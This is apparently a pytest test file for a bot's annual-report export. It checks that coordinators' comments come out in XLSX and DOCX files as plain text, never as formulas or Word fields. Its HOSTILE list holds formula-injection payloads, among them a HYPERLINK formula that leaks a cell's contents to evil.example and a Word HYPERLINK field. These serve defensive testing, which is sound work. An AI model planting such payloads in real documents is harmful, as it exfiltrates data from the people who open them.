"""The annual report's documents carry people's text as data, never as formulas or fields."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from bot.documents.annual_report import render_docx, render_xlsx
from bot.domain.annual import build_annual_report
from bot.domain.reports import StatusReport

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&C3,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '{ HYPERLINK "http://evil.example" }',
]


def report(n: int, comment: str, author: str) -> StatusReport:
    return StatusReport(
        id=n,
        item_code="4.1",
        department_id="spb-9cdf3d",
        party_id="spb",
        user_id=1001,
        author=author,
        status="in_progress",
        comment=comment,
        evidence_kind=None,
        evidence_file_id=None,
        evidence_name=None,
        carried_forward=False,
        created_at=datetime(2021, 3, n + 1, 9, tzinfo=UTC),
        edited_at=None,
    )


def test_no_text_of_a_coordinator_becomes_a_formula(roadmap):
    reports = [report(n, text, author="=1+1") for n, text in enumerate(HOSTILE)]
    data = build_annual_report(roadmap, 2021, reports, datetime(2021, 12, 20, tzinfo=UTC))
    book = load_workbook(io.BytesIO(render_xlsx(data)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    log = book["Отчёты"]
    # a control character is stored as OOXML's _x000D_ escape, which spreadsheets decode
    # (openpyxl leaves it as stored)
    comments = [unescape(row[6]) for row in log.iter_rows(min_row=2, values_only=True)]
    assert comments == HOSTILE
    assert {row[4] for row in log.iter_rows(min_row=2, values_only=True)} == {"=1+1"}
    flagged = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+"))]
    assert flagged and all(c.quotePrefix for c in flagged)  # shown as typed, even if edited


def test_no_text_of_a_coordinator_becomes_a_field_in_the_docx(roadmap):
    reports = [report(n, text, author="Анна") for n, text in enumerate(HOSTILE)]
    data = build_annual_report(roadmap, 2021, reports, datetime(2021, 12, 20, tzinfo=UTC))
    xml = zipfile.ZipFile(io.BytesIO(render_docx(data))).read("word/document.xml").decode()
    assert "fldSimple" not in xml and "instrText" not in xml and "fldChar" not in xml
    assert '{ HYPERLINK "http://evil.example" }' in xml  # there, as plain text


def test_a_control_character_in_a_comment_does_not_break_the_years_documents(roadmap):
    reports = [report(1, "итог\x01 \x0bгода\x1f", author="Анна")]
    data = build_annual_report(roadmap, 2021, reports, datetime(2021, 12, 20, tzinfo=UTC))
    xml = zipfile.ZipFile(io.BytesIO(render_docx(data))).read("word/document.xml").decode()
    assert "Итог года." in xml
    assert load_workbook(io.BytesIO(render_xlsx(data)))["Отчёты"].max_row == 2
